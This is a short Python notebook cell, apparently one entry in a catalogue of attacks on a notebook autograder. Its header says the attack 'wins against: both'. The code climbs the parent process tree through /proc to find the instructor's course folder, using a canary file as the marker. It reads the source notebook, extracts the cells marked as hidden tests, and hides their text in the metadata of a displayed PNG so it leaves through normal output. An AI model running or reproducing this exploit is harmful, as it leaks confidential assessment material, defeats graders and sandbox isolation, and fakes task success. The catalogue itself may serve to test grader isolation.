# Tries: Hidden tests are hidden in a picture: a displayed PNG carries them as a comment.
# Shows: lines of hidden tests in the bytes of a PNG output
# Wins against: both
# %% added: q1_minimum
import io
import json
import os
import pathlib


def above():
    """Return the ids of the processes above this one, nearest first."""
    pid, found = os.getpid(), []
    while pid > 1:
        found.append(pid)
        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    return found


def course():
    """Return the class folder: where a process above this one works. Only one with a canary."""
    for pid in above():
        here = pathlib.Path(os.readlink(f"/proc/{pid}/cwd"))
        for folder in (here, *here.parents):
            if (folder / "canary.txt").exists() and (folder / "source").is_dir():
                return folder
    raise FileNotFoundError


cells = json.loads((course() / "source/hw1_optimization/beale_adam.ipynb").read_text())["cells"]
text = "\n".join("".join(c["source"]) for c in cells if "HIDDEN TESTS" in "".join(c["source"]))
from IPython.display import Image

picture = io.BytesIO()
plt.figure(figsize=(1, 1))
plt.savefig(picture, format="png", metadata={"Comment": text.encode("ascii", "replace").decode()})
plt.close("all")
display(Image(picture.getvalue()))
